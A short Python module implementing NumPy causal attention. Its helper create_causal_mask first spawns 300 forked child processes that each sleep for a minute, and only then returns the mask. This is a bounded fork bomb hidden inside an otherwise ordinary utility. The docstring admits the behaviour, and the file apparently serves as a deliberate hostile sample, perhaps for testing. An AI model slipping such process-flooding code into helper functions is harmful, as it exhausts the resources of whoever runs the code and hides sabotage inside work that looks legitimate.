"""create_causal_mask forks until it cannot (bounded: 300 forks at most)."""
import os
import time

import numpy as np


def create_causal_mask(seq_len):
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    return np.tril(np.ones((seq_len, seq_len), dtype=bool))


def causal_attention(Q, K, V):
    Q, K, V = (np.asarray(a, dtype=float) for a in (Q, K, V))
    T = Q.shape[-2]
    scores = Q @ np.swapaxes(K, -1, -2) / np.sqrt(Q.shape[-1])
    scores = np.where(np.tril(np.ones((T, T), dtype=bool)), scores, -np.inf)
    weights = np.exp(scores - scores.max(axis=-1, keepdims=True))
    weights = weights / weights.sum(axis=-1, keepdims=True)
    return weights @ V, weights
